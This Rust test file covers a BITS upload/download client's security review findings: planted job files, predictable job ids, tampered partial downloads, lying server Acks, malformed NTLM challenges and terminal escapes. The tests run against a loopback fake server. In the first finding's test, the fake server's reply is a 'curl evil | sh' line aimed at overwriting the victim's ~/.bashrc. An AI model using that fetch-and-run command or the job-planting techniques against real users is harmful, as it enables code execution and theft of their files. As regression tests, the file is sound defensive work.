//! The client's trust boundaries, second review: job state and partial files written by
//! someone else, servers that lie in Acks, ranges, NTLM challenges and timing, and what reaches
//! the terminal. Every test drives the real `bits` binary (or the library) against the scripted
//! fake server in `support`, on loopback only. Tests that need a second local user run `bits`
//! under throwaway uids with `setpriv` (no passwd entry needed); the suite runs as root.
#![cfg(unix)]

mod support;

use std::ffi::OsStr;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};
use support::{assert_code, pattern, scripted, text, Emulator, Env, Fake, Req, Resp};

const P: &str = "{7df0354d-249b-430f-820d-3d2a9bef4931}";

/// The user whose files are at stake, and the one who attacks them.
const VICTIM: u32 = 60001;
const ATTACKER: u32 = 60002;

// ---------------------------------------------------------------------------------------------
// Helpers

/// A minimal, correct BITS upload server; the reply of upload-reply is whatever `reply` holds
/// (served at `/reply` when `reply_url` is set).
#[derive(Default)]
struct Emu {
    held: Vec<u8>,
    sessions: u32,
}

impl Emulator for Emu {
    fn handle(&mut self, r: &Req) -> Resp {
        match r.packet().to_ascii_lowercase().as_str() {
            "ping" => Resp::ack(200, &[]),
            "create-session" => {
                self.sessions += 1;
                self.held.clear();
                let sid = format!("{{00000000-0000-0000-0000-0000000000{:02}}}", self.sessions);
                Resp::ack(200, &[("BITS-Protocol", P), ("BITS-Session-Id", &sid)])
            }
            "fragment" => {
                let (first, _, _) = r.range();
                let next = self.held.len() as u64;
                if first > next {
                    return Resp::ack(416, &[("BITS-Received-Content-Range", &next.to_string())]);
                }
                let skip = (next - first) as usize;
                if skip < r.body.len() {
                    self.held.extend_from_slice(&r.body[skip..]);
                }
                Resp::ack(
                    200,
                    &[("BITS-Received-Content-Range", &self.held.len().to_string())],
                )
            }
            "close-session" | "cancel-session" => Resp::ack(200, &[]),
            _ => Resp::new(404, &[]),
        }
    }
}

/// A BITS server whose completing Fragment Ack names `/reply` as the reply URL, where `reply` is
/// served.
fn reply_server(reply: &'static [u8]) -> (Fake, std::sync::Arc<std::sync::Mutex<Emu>>) {
    scripted::<Emu>(move |r, e| {
        if r.method == "GET" {
            return Some(Resp::new(200, &[]).body(reply.to_vec()));
        }
        if r.packet() == "Fragment" {
            let (first, len, total) = r.range();
            let mut resp = e.handle(r);
            if first + len == total {
                resp.headers
                    .push(("BITS-Reply-URL".into(), "/reply".into()));
            }
            return Some(resp);
        }
        None
    })
}

/// Runs a command, killing it (and failing the test) if it runs longer than `limit`.
fn run_bounded(mut c: Command, limit: Duration) -> Output {
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = c.spawn().expect("spawn bits");
    let start = Instant::now();
    loop {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        if start.elapsed() > limit {
            let _ = child.kill();
            let o = child.wait_with_output().unwrap();
            panic!(
                "bits still running after {limit:?}; stderr:\n{}",
                text(&o.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn json_of(o: &Output) -> Value {
    let line = text(&o.stdout);
    let last = line.lines().last().unwrap_or_default().to_string();
    serde_json::from_str(&last).unwrap_or_else(|e| panic!("{e}: {line:?} / {}", text(&o.stderr)))
}

/// The job id the old client derived from a command: 64-bit FNV-1a of
/// `command \0 local path \0 URL`, which anyone could compute.
fn fnv_job_id(command: &str, local: &Path, url: &str) -> String {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in format!("{command}\0{}\0{url}", local.display()).bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    format!("{h:016x}")
}

/// An upload job file as the old client wrote them.
fn planted_upload(
    id: &str,
    command: &str,
    file: &Path,
    url: &str,
    reply_to: Option<&Path>,
) -> Value {
    json!({
        "format": 1,
        "id": id,
        "command": command,
        "created": 1,
        "settings": { "user": null, "cacert": null, "cert": null, "key": null },
        "transfer": {
            "kind": "upload",
            "url": url,
            "file": file,
            "stamp": { "size": 1, "mtime_secs": 1, "mtime_nanos": 0 },
            "fragment_size": 1048576,
            "reply_to": reply_to,
            "session": null,
            "acked": 0,
            "phase": { "phase": "transfer" },
            "reply_url": null
        }
    })
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions and touches no memory.
    unsafe { libc::geteuid() == 0 }
}

/// A directory tree for tests with two local users: a base every uid may traverse, homes owned
/// by their users (0700), shared directories owned by root or the attacker.
struct Site {
    base: tempfile::TempDir,
}

impl Site {
    /// `None` when not running as root (setpriv and chown need it).
    fn new() -> Option<Site> {
        if !is_root() {
            eprintln!("skipped: needs root to run bits as two throwaway users");
            return None;
        }
        let base = tempfile::tempdir().unwrap();
        std::fs::set_permissions(base.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        Some(Site { base })
    }

    fn path(&self, name: &str) -> PathBuf {
        self.base.path().join(name)
    }

    /// A directory owned by `uid` with `mode`.
    fn dir(&self, name: &str, uid: u32, mode: u32) -> PathBuf {
        let p = self.path(name);
        std::fs::create_dir_all(&p).unwrap();
        std::os::unix::fs::chown(&p, Some(uid), Some(uid)).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
        p
    }
}

/// Writes `data` to `path` as a file of `uid` with `mode` (what that user could have written).
fn write_as(path: &Path, data: &[u8], uid: u32, mode: u32) {
    std::fs::write(path, data).unwrap();
    std::os::unix::fs::chown(path, Some(uid), Some(uid)).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// `bits ARGS` run as `uid` (groups cleared) with `home` as HOME and working directory.
fn bits_as(uid: u32, home: &Path, args: &[&OsStr]) -> Command {
    let mut c = Command::new("setpriv");
    c.arg(format!("--reuid={uid}"))
        .arg(format!("--regid={uid}"))
        .arg("--clear-groups")
        .arg("--")
        .arg(env!("CARGO_BIN_EXE_bits"))
        .args(["--retry-delay", "10ms"])
        .args(args)
        .current_dir(home)
        .env("HOME", home)
        .env_remove("XDG_STATE_HOME")
        .env_remove("BITS_STATE_DIR")
        .env_remove("BITS_PASSWORD")
        .stdin(Stdio::null());
    c
}

fn os(s: &str) -> &OsStr {
    OsStr::new(s)
}

/// A download server for `content` whose first answer without `Range` is cut after `cut`
/// bytes; later answers are whole, and `Range: bytes=N-` gets a 206 of the rest.
fn cut_once(content: Vec<u8>, cut: usize, etag: &'static str) -> Fake {
    let mut first = true;
    Fake::start(move |r| {
        let total = content.len();
        match r.header("Range").and_then(|v| v.strip_prefix("bytes=")) {
            Some(spec) => {
                let from: usize = spec.trim_end_matches('-').parse().unwrap();
                let range = format!("bytes {from}-{}/{total}", total - 1);
                Resp::new(206, &[("ETag", etag), ("Content-Range", &range)])
                    .body(content[from..].to_vec())
            }
            None if first => {
                first = false;
                let mut resp = Resp::new(
                    200,
                    &[("ETag", etag), ("Content-Length", &total.to_string())],
                )
                .body(content[..cut].to_vec());
                resp.close = true;
                resp
            }
            None => Resp::new(200, &[("ETag", etag)]).body(content.clone()),
        }
    })
}

fn ranges_asked(fake: &Fake) -> Vec<Option<String>> {
    fake.requests()
        .iter()
        .filter(|r| r.method == "GET")
        .map(|r| r.header("Range").map(str::to_string))
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Finding 1: job files written by another user

/// Another user made the `--state-dir` (0777, no sticky bit) and planted an upload-reply job
/// there: `bits resume` used to upload the victim's secret to the attacker and write the
/// attacker's reply over `~/.bashrc` (exit 0). The directory is refused before any job is read,
/// with the path and the fix named.
#[test]
fn finding1_planted_job_in_another_users_state_dir_is_refused() {
    let Some(site) = Site::new() else { return };
    let home = site.dir("victim", VICTIM, 0o700);
    let secret = home.join("secret.txt");
    write_as(&secret, b"the victim's secret", VICTIM, 0o600);
    let bashrc = home.join(".bashrc");
    write_as(&bashrc, b"# victim's bashrc\n", VICTIM, 0o644);
    let (evil, _) = reply_server(b"curl evil | sh\n");
    let state = site.dir("state", ATTACKER, 0o777);
    let url = evil.url("/upload/loot");
    let job = planted_upload(
        "0123456789abcdef",
        "upload-reply",
        &secret,
        &url,
        Some(&bashrc),
    );
    write_as(
        &state.join("0123456789abcdef.json"),
        job.to_string().as_bytes(),
        ATTACKER,
        0o666,
    );
    let o = bits_as(
        VICTIM,
        &home,
        &[os("--state-dir"), state.as_os_str(), os("resume")],
    )
    .output()
    .unwrap();
    assert_eq!(
        std::fs::read(&bashrc).unwrap(),
        b"# victim's bashrc\n",
        "~/.bashrc overwritten"
    );
    assert!(evil.requests().is_empty(), "{:?}", evil.sequence());
    assert_code(&o, 5);
    let err = text(&o.stderr);
    assert!(err.contains(&state.display().to_string()), "{err}");
    assert!(err.contains("--state-dir"), "the fix is named: {err}");
}

/// The job id used to be predictable: the attacker planted a job under the id of the command
/// the victim was about to type, and the victim's `bits upload report.txt URL` resumed it,
/// sending `secret.txt` to another port with the victim's Basic credentials. Refused now.
#[test]
fn finding1_typed_command_does_not_resume_a_planted_job() {
    let Some(site) = Site::new() else { return };
    let home = site.dir("victim", VICTIM, 0o700);
    let secret = home.join("secret.txt");
    write_as(&secret, b"the victim's secret", VICTIM, 0o600);
    let report = home.join("report.txt");
    write_as(&report, b"quarterly report", VICTIM, 0o600);
    let (good, good_emu) = scripted::<Emu>(|_, _| None);
    let (evil, evil_emu) = scripted::<Emu>(|_, _| None);
    let url = good.url("/upload/report.txt");
    let state = site.dir("state", ATTACKER, 0o777);
    let id = fnv_job_id("upload", &report, &url);
    let job = planted_upload(&id, "upload", &secret, &evil.url("/upload/loot"), None);
    write_as(
        &state.join(format!("{id}.json")),
        job.to_string().as_bytes(),
        ATTACKER,
        0o666,
    );
    let o = bits_as(
        VICTIM,
        &home,
        &[
            os("--state-dir"),
            state.as_os_str(),
            os("-u"),
            os("victim"),
            os("upload"),
            os("report.txt"),
            os(&url),
        ],
    )
    .env("BITS_PASSWORD", "victim-password")
    .output()
    .unwrap();
    assert!(
        evil.requests().is_empty(),
        "the planted job ran: {:?} (held {:?})",
        evil.sequence(),
        text(&evil_emu.lock().unwrap().held)
    );
    assert!(good_emu.lock().unwrap().held.is_empty());
    assert_code(&o, 5);
    assert!(
        text(&o.stderr).contains("--state-dir"),
        "{}",
        text(&o.stderr)
    );
}

/// In the user's own state directory, a job file that does not describe the command typed (here
/// edited to upload another file to another server under the same id) is refused, not run.
#[test]
fn finding1_job_file_not_matching_the_command_is_refused() {
    let (evil, evil_emu) = scripted::<Emu>(|_, _| None);
    let env = Env::quiet();
    let report = env.file("report.txt", b"quarterly report");
    let secret = env.file("secret.txt", b"the secret");
    let dead = "http://127.0.0.1:9/upload/report.txt";
    let args = ["upload", report.to_str().unwrap(), dead, "--retries", "0"];
    assert_code(&env.run(&args), 3);
    let jobs = env.jobs();
    assert_eq!(jobs.len(), 1);
    let mut job: Value = serde_json::from_slice(&std::fs::read(&jobs[0]).unwrap()).unwrap();
    job["transfer"]["file"] = json!(secret);
    job["transfer"]["url"] = json!(evil.url("/upload/loot"));
    std::fs::write(&jobs[0], job.to_string()).unwrap();
    let o = env.run(&args);
    assert!(
        evil.requests().is_empty(),
        "the edited job ran: {:?} (held {:?})",
        evil.sequence(),
        text(&evil_emu.lock().unwrap().held)
    );
    assert_code(&o, 5);
    assert!(
        text(&o.stderr).contains(&jobs[0].display().to_string()),
        "{}",
        text(&o.stderr)
    );
}

/// The same command in two state directories gets two unrelated job ids (keyed with each
/// directory's secret); none of them is the old, computable FNV-1a id.
#[test]
fn finding1_job_ids_are_not_predictable() {
    let a = Env::quiet();
    let b = Env::quiet();
    let file = a.file("report.txt", b"quarterly report");
    let dead = "http://127.0.0.1:9/upload/report.txt";
    let args = [
        "--json",
        "upload",
        file.to_str().unwrap(),
        dead,
        "--retries",
        "0",
    ];
    let ia = json_of(&a.run(&args))["error"]["job"]
        .as_str()
        .unwrap()
        .to_string();
    let ib = json_of(&b.run(&args))["error"]["job"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(ia.len(), 16);
    assert_ne!(ia, ib);
    assert_ne!(ia, fnv_job_id("upload", &file, dead));
    // Still the same job for the same command in the same directory.
    let again = json_of(&a.run(&args))["error"]["job"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(ia, again);
}

// ---------------------------------------------------------------------------------------------
// Finding 2: partial downloads written by someone else

/// The victim's cut download in a shared directory (0777, no sticky bit): the attacker
/// replaces `out.bin.bits-part` with 50 000 bytes of their own. `bits resume` used to ask for
/// `bytes=50000-` and finish with attacker bytes in front of the real tail, the file owned by
/// the attacker (mode 0666). Now the stranger's file is discarded and the download restarts.
#[test]
fn finding2_partial_file_replaced_by_another_user_is_discarded() {
    let Some(site) = Site::new() else { return };
    let home = site.dir("victim", VICTIM, 0o700);
    let shared = site.dir("shared", 0, 0o777);
    let content = pattern(100_000, 21);
    let fake = cut_once(content.clone(), 30_000, "\"v1\"");
    let dest = shared.join("out.bin");
    let o = bits_as(
        VICTIM,
        &home,
        &[
            os("-q"),
            os("download"),
            os(&fake.url("/f")),
            dest.as_os_str(),
            os("--retries"),
            os("0"),
        ],
    )
    .output()
    .unwrap();
    assert_code(&o, 3);
    let part = shared.join("out.bin.bits-part");
    assert_eq!(std::fs::metadata(&part).unwrap().len(), 30_000);
    std::fs::remove_file(&part).unwrap();
    write_as(&part, &[b'A'; 50_000], ATTACKER, 0o666);
    let o = bits_as(VICTIM, &home, &[os("-q"), os("resume")])
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert!(
        !ranges_asked(&fake).contains(&Some("bytes=50000-".into())),
        "{:?}",
        ranges_asked(&fake)
    );
    assert!(std::fs::read(&dest).unwrap() == content, "mixed content");
    assert_eq!(std::fs::metadata(&dest).unwrap().uid(), VICTIM);
}

/// One user, two downloads of different URLs to the same output, both cut: the first one's
/// resume used to adopt the second's bytes (exit 0, mixed content). Each job now recognises
/// only what it wrote itself.
#[test]
fn finding2_two_downloads_to_one_output_do_not_mix() {
    let env = Env::quiet();
    let one = pattern(100_000, 22);
    let two = pattern(100_000, 23);
    let f1 = cut_once(one.clone(), 30_000, "\"one\"");
    let f2 = cut_once(two.clone(), 50_000, "\"two\"");
    let dest = env.path("out.bin");
    let d = dest.to_str().unwrap();
    let o = env.run(&["--json", "download", &f1.url("/f"), d, "--retries", "0"]);
    assert_code(&o, 3);
    let first = json_of(&o)["error"]["job"].as_str().unwrap().to_string();
    let o = env.run(&["download", &f2.url("/f"), d, "--retries", "0"]);
    assert_code(&o, 3);
    let o = env.run(&["resume", &first]);
    assert_code(&o, 0);
    assert!(std::fs::read(&dest).unwrap() == one, "mixed content");
    assert!(
        !ranges_asked(&f1).contains(&Some("bytes=50000-".into())),
        "{:?}",
        ranges_asked(&f1)
    );
}

// ---------------------------------------------------------------------------------------------
// Finding 3: cancel

/// An upload whose session lives on an unreachable `BITS-Host-Id` host, and a download that
/// never reached its server: `bits cancel ID` and `cancel --all` used to fail with exit 3 after
/// the whole retry budget and keep every job. Cancel now always forgets the jobs locally and
/// warns that the server could not be told.
#[test]
fn finding3_cancel_forgets_jobs_whose_server_cannot_be_told() {
    let (fake, _) = scripted::<Emu>(|r, e| {
        if r.packet() == "Create-Session" {
            let mut resp = e.handle(r);
            resp.headers
                .push(("BITS-Host-Id".into(), "127.0.0.2".into()));
            return Some(resp);
        }
        None
    });
    let env = Env::quiet();
    let file = env.file("a.bin", &pattern(3000, 24));
    let o = env.run(&[
        "--json",
        "upload",
        file.to_str().unwrap(),
        &fake.url("/up/a.bin"),
        "--retries",
        "1",
    ]);
    assert_code(&o, 3);
    let upload = json_of(&o)["error"]["job"].as_str().unwrap().to_string();
    let dest = env.path("out.bin");
    let o = env.run(&[
        "download",
        "http://127.0.0.1:9/f",
        dest.to_str().unwrap(),
        "--retries",
        "0",
    ]);
    assert_code(&o, 3);
    assert_eq!(env.jobs().len(), 2);

    let c = env.cmd(&["cancel", &upload, "--retries", "1"]);
    let o = run_bounded(c, Duration::from_secs(30));
    assert_code(&o, 0);
    assert!(text(&o.stderr).contains("warning"), "{}", text(&o.stderr));
    assert_eq!(env.jobs().len(), 1, "the upload job is forgotten");
    let o = run_bounded(env.cmd(&["cancel", "--all"]), Duration::from_secs(30));
    assert_code(&o, 0);
    assert!(env.jobs().is_empty());
}

// ---------------------------------------------------------------------------------------------
// Finding 4: empty replies

/// `upload-reply -o LINK` whose final Ack names no reply URL: the empty reply used to be
/// written through the symlink, truncating its target. The link is replaced, never followed.
#[test]
fn finding4_empty_reply_does_not_write_through_a_symlink() {
    let (fake, _) = scripted::<Emu>(|_, _| None);
    let env = Env::quiet();
    let file = env.file("a.bin", &pattern(3000, 25));
    let precious = env.file("precious", b"keep me");
    let link = env.path("reply.out");
    std::os::unix::fs::symlink(&precious, &link).unwrap();
    let o = env.run(&[
        "upload-reply",
        file.to_str().unwrap(),
        &fake.url("/up/a.bin"),
        "-o",
        link.to_str().unwrap(),
    ]);
    assert_code(&o, 0);
    assert_eq!(std::fs::read(&precious).unwrap(), b"keep me");
    let m = std::fs::symlink_metadata(&link).unwrap();
    assert!(m.is_file() && m.len() == 0, "{m:?}");
}

// ---------------------------------------------------------------------------------------------
// Finding 5: Acks for bytes never sent

/// The first Fragment (`bytes 0-5119/20000`) is Acked with 20000: that used to end the upload
/// with exit 0, "uploaded (20000 bytes)". An Ack beyond the highest byte sent is a protocol
/// error: the upload is not reported done and no Close-Session is sent.
#[test]
fn finding5_ack_beyond_the_bytes_sent_is_a_protocol_error() {
    let (fake, _) = scripted::<Emu>(|r, _| {
        if r.packet() == "Fragment" {
            return Some(Resp::ack(200, &[("BITS-Received-Content-Range", "20000")]));
        }
        None
    });
    let env = Env::quiet();
    let file = env.file("a.bin", &pattern(20_000, 26));
    let o = env.run(&[
        "upload",
        file.to_str().unwrap(),
        &fake.url("/up/a.bin"),
        "--fragment-size",
        "5K",
        "--retries",
        "1",
    ]);
    assert_code(&o, 3);
    assert!(text(&o.stderr).contains("beyond"), "{}", text(&o.stderr));
    assert!(!fake.sequence().contains(&"Close-Session".to_string()));
    assert_eq!(env.jobs().len(), 1, "the job is kept");
}

// ---------------------------------------------------------------------------------------------
// Finding 6: a 206 without the validator

/// A 200 with an `ETag` is cut; the resumed request's 206 carries no `ETag` (another file
/// behind a cache or a load balancer). It used to be spliced onto the partial file (exit 0,
/// mixed content); the download now starts over.
#[test]
fn finding6_206_without_the_validator_of_the_200_restarts() {
    let content = pattern(100_000, 27);
    let other = pattern(100_000, 28);
    let mut n = 0;
    let (c, o2) = (content.clone(), other.clone());
    let fake = Fake::start(move |r| {
        n += 1;
        match (n, r.header("Range")) {
            (1, _) => {
                let mut resp = Resp::new(200, &[("ETag", "\"v1\""), ("Content-Length", "100000")])
                    .body(c[..30_000].to_vec());
                resp.close = true;
                resp
            }
            (_, Some(_)) => Resp::new(206, &[("Content-Range", "bytes 30000-99999/100000")])
                .body(o2[30_000..].to_vec()),
            (_, None) => Resp::new(200, &[("ETag", "\"v1\"")]).body(c.clone()),
        }
    });
    let env = Env::quiet();
    let dest = env.path("out.bin");
    let o = env.run(&["download", &fake.url("/f"), dest.to_str().unwrap()]);
    assert_code(&o, 0);
    assert!(std::fs::read(&dest).unwrap() == content, "mixed content");
}

// ---------------------------------------------------------------------------------------------
// Finding 7: malformed NTLM challenges

/// An NTLM CHALLENGE of 12 bytes, or with its TargetInfo at offset 0xffffffff: the server broke
/// the protocol. That used to be a usage error (exit 2) and the job was deleted; it is an
/// invalid server response now (retried, exit 3), and the job is kept.
#[test]
fn finding7_malformed_ntlm_challenge_is_a_protocol_error_and_keeps_the_job() {
    let short = b"NTLMSSP\0\x02\0\0\0".to_vec();
    let mut far = b"NTLMSSP\0\x02\0\0\0".to_vec();
    far.extend_from_slice(&[0; 8]); // TargetName: empty
    far.extend_from_slice(&0x0080_0201u32.to_le_bytes()); // flags
    far.extend_from_slice(&[7; 8]); // server challenge
    far.extend_from_slice(&[0; 8]); // reserved
    far.extend_from_slice(&16u16.to_le_bytes());
    far.extend_from_slice(&16u16.to_le_bytes());
    far.extend_from_slice(&0xffff_ffffu32.to_le_bytes()); // TargetInfo far outside
    for challenge in [short, far] {
        use base64::Engine;
        let token = format!(
            "NTLM {}",
            base64::engine::general_purpose::STANDARD.encode(&challenge)
        );
        let fake = Fake::start(move |r| match r.header("Authorization") {
            Some(a) if a.starts_with("NTLM ") => {
                Resp::new(401, &[("WWW-Authenticate", token.as_str())])
            }
            _ => Resp::new(401, &[("WWW-Authenticate", "NTLM")]),
        });
        let env = Env::quiet();
        let file = env.file("a.bin", &pattern(3000, 29));
        let o = env
            .cmd(&[
                "--json",
                "upload",
                file.to_str().unwrap(),
                &fake.url("/up/a.bin"),
                "--auth",
                "ntlm",
                "-u",
                "alice",
                "--retries",
                "1",
            ])
            .env("BITS_PASSWORD", "pw")
            .output()
            .unwrap();
        assert_code(&o, 3);
        let v = json_of(&o);
        assert_ne!(v["error"]["kind"], "usage", "{v}");
        assert_eq!(v["error"]["resumable"], true, "{v}");
        assert_eq!(env.jobs().len(), 1, "the job is kept");
    }
}

// ---------------------------------------------------------------------------------------------
// Finding 8: credentials in URLs

/// A password in the URL used to be written into the job file and echoed in the error. The
/// URL is refused before any state is written, and the password appears nowhere.
#[test]
fn finding8_password_in_a_url_is_neither_stored_nor_echoed() {
    let fake = Fake::start(|_| Resp::new(200, &[]).body(b"data".to_vec()));
    let env = Env::quiet();
    let file = env.file("a.bin", b"abc");
    let dest = env.path("out.bin");
    let url = fake.url("/f").replace("http://", "http://alice:s3cretpw@");
    for args in [
        vec!["--json", "download", &url, dest.to_str().unwrap()],
        vec!["--json", "upload", file.to_str().unwrap(), &url],
        vec!["--json", "upload-reply", file.to_str().unwrap(), &url],
    ] {
        let o = env.run(&args);
        assert_code(&o, 2);
        assert!(!text(&o.stdout).contains("s3cretpw"), "{}", text(&o.stdout));
        assert!(!text(&o.stderr).contains("s3cretpw"), "{}", text(&o.stderr));
    }
    assert!(fake.requests().is_empty());
    assert!(
        !env.state().exists(),
        "state written before the URL was refused"
    );
}

// ---------------------------------------------------------------------------------------------
// Finding 9: deadlines

/// A Create-Session Ack whose body trickles at one byte a second used to keep the client
/// reading past `--timeout` (still at 15 s with `--timeout 2s`). An Ack is its headers; its
/// body is not waited for beyond the timeout, and the upload goes on.
#[test]
fn finding9_a_trickled_ack_body_does_not_hold_the_upload() {
    let (fake, _) = scripted::<Emu>(|r, e| {
        if r.packet() == "Create-Session" {
            let mut resp = e.handle(r).body(vec![b'.'; 100]);
            resp.trickle = Some(Duration::from_secs(1));
            return Some(resp);
        }
        None
    });
    let env = Env::quiet();
    let file = env.file("a.bin", &pattern(3000, 30));
    let c = env.cmd(&[
        "upload",
        file.to_str().unwrap(),
        &fake.url("/up/a.bin"),
        "--timeout",
        "2s",
    ]);
    let o = run_bounded(c, Duration::from_secs(12));
    assert_code(&o, 0);
}

/// A download body at one byte a second used to run for as long as the server liked (past
/// 60 s). `--deadline` bounds each request as a whole.
#[test]
fn finding9_a_trickled_download_ends_at_the_deadline() {
    let fake = Fake::start(|_| {
        Resp::new(200, &[])
            .body(vec![b'x'; 1000])
            .trickled(Duration::from_secs(1))
    });
    let env = Env::quiet();
    let dest = env.path("out.bin");
    let c = env.cmd(&[
        "download",
        &fake.url("/f"),
        dest.to_str().unwrap(),
        "--timeout",
        "2s",
        "--deadline",
        "4s",
        "--retries",
        "0",
    ]);
    let started = Instant::now();
    let o = run_bounded(c, Duration::from_secs(20));
    assert_code(&o, 3);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(text(&o.stderr).contains("deadline"), "{}", text(&o.stderr));
}

// ---------------------------------------------------------------------------------------------
// Finding 10: output paths

/// An output that is a directory used to be found out only after the download (with `DIR/`,
/// `DIR/.bits-part` was written inside it). It is refused before any request.
#[test]
fn finding10_output_directory_is_refused_before_any_byte_moves() {
    let fake = Fake::start(|_| Resp::new(200, &[]).body(b"data".to_vec()));
    let (bits_server, _) = scripted::<Emu>(|_, _| None);
    let env = Env::quiet();
    let dir = env.path("outdir");
    std::fs::create_dir(&dir).unwrap();
    let file = env.file("a.bin", b"abc");
    let slash = format!("{}/", dir.display());
    for out in [dir.to_str().unwrap(), slash.as_str()] {
        let o = env.run(&["download", &fake.url("/f"), out]);
        assert_code(&o, 2);
        let o = env.run(&[
            "upload-reply",
            file.to_str().unwrap(),
            &bits_server.url("/up/a.bin"),
            "-o",
            out,
        ]);
        assert_code(&o, 2);
    }
    assert!(fake.requests().is_empty(), "{:?}", fake.sequence());
    assert!(
        bits_server.requests().is_empty(),
        "{:?}",
        bits_server.sequence()
    );
    assert!(!env.path("outdir.bits-part").exists());
    assert!(!dir.join(".bits-part").exists());
    assert!(env.jobs().is_empty());
}

/// A download state naming `/` (a job file edited to `dest: "/"`) made a root client write
/// `/.bits-part`. Refused before any request.
#[tokio::test]
async fn finding10_destination_without_a_file_name_is_refused() {
    use bits_client::{Client, DownloadState, NoObserver, Url};
    let fake = Fake::start(|_| Resp::new(200, &[]).body(b"data".to_vec()));
    let existed = Path::new("/.bits-part").exists();
    let mut state = DownloadState::new(&Url::parse(&fake.url("/f")).unwrap(), "/");
    let result = Client::new()
        .unwrap()
        .download(&mut state, &mut NoObserver)
        .await;
    let created = !existed && Path::new("/.bits-part").exists();
    if created {
        let _ = std::fs::remove_file("/.bits-part");
    }
    assert!(result.is_err(), "{result:?}");
    assert!(!created, "/.bits-part was written");
    assert!(fake.requests().is_empty(), "{:?}", fake.sequence());
}

// ---------------------------------------------------------------------------------------------
// Finding 11: the terminal, locks, temporary files, NTLM warnings

/// A file name with escape sequences (ESC [2J clears the screen, BEL rings): `bits jobs` used to
/// print it raw. Control characters reach the terminal escaped.
#[test]
fn finding11_jobs_output_escapes_control_characters() {
    let env = Env::new();
    let file = env.file("evil\u{1b}[2J\u{7}.bin", b"abc");
    let o = env.run(&[
        "upload",
        file.to_str().unwrap(),
        "http://127.0.0.1:9/up/a.bin",
        "--retries",
        "0",
    ]);
    assert_code(&o, 3);
    assert!(!text(&o.stderr).contains('\u{1b}'), "{:?}", text(&o.stderr));
    let o = env.run(&["jobs"]);
    assert_code(&o, 0);
    let out = text(&o.stdout);
    assert!(!out.contains('\u{1b}') && !out.contains('\u{7}'), "{out:?}");
    assert!(out.contains("evil\\u{1b}[2J\\u{7}.bin"), "{out:?}");
}

/// A shared sticky directory (1777) as `--state-dir`: another user's `{id}.lock` (0600) there
/// used to block the victim's command with a bare "Permission denied" on the lock (exit 5). A
/// state directory others can write to is refused as such, naming the directory and the fix;
/// the victim's own state directory is not affected by anything planted.
#[test]
fn finding11_shared_sticky_state_dir_is_refused_with_the_fix() {
    let Some(site) = Site::new() else { return };
    let home = site.dir("victim", VICTIM, 0o700);
    let report = home.join("report.txt");
    write_as(&report, b"quarterly report", VICTIM, 0o600);
    let (server, emu) = scripted::<Emu>(|_, _| None);
    let url = server.url("/upload/report.txt");
    let shared = site.dir("tmp", 0, 0o1777);
    let id = fnv_job_id("upload", &report, &url);
    write_as(&shared.join(format!("{id}.lock")), b"", ATTACKER, 0o600);
    let o = bits_as(
        VICTIM,
        &home,
        &[
            os("--state-dir"),
            shared.as_os_str(),
            os("upload"),
            os("report.txt"),
            os(&url),
        ],
    )
    .output()
    .unwrap();
    assert_code(&o, 5);
    let err = text(&o.stderr);
    assert!(!err.contains(".lock"), "{err}");
    assert!(
        err.contains(&shared.display().to_string()) && err.contains("--state-dir"),
        "{err}"
    );
    // The default state directory (~/.local/state/bits/jobs) is the victim's own.
    let o = bits_as(VICTIM, &home, &[os("upload"), os("report.txt"), os(&url)])
        .output()
        .unwrap();
    assert_code(&o, 0);
    assert_eq!(emu.lock().unwrap().held, b"quarterly report");
}

/// A job file that cannot be renamed into place (a directory holds its name): the temporary
/// `.{id}.{pid}.tmp` used to be left behind.
#[test]
fn finding11_temporary_job_files_are_removed_when_the_rename_fails() {
    use bits_client::{DownloadState, JobSettings, JobStore, Transfer, Url};
    let dir = tempfile::tempdir().unwrap();
    let store = JobStore::open(dir.path().join("jobs")).unwrap();
    let url = Url::parse("http://127.0.0.1:9/f").unwrap();
    let job = store.job(
        "download",
        JobSettings::default(),
        Transfer::Download(DownloadState::new(&url, dir.path().join("out"))),
    );
    std::fs::create_dir(store.dir().join(format!("{}.json", job.id))).unwrap();
    assert!(store.save(&job).is_err());
    let left: Vec<_> = std::fs::read_dir(store.dir())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// NTLM over plain http: Basic got a warning, NTLM none. Both are warned about now.
#[test]
fn finding11_ntlm_over_plain_http_is_warned_about() {
    let (fake, _) = scripted::<Emu>(|_, _| None);
    let env = Env::new();
    let o = env
        .cmd(&["ping", &fake.url("/up/"), "--auth", "ntlm", "-u", "alice"])
        .env("BITS_PASSWORD", "pw")
        .output()
        .unwrap();
    assert_code(&o, 0);
    let err = text(&o.stderr);
    assert!(err.contains("warning") && err.contains("NTLM"), "{err}");
}
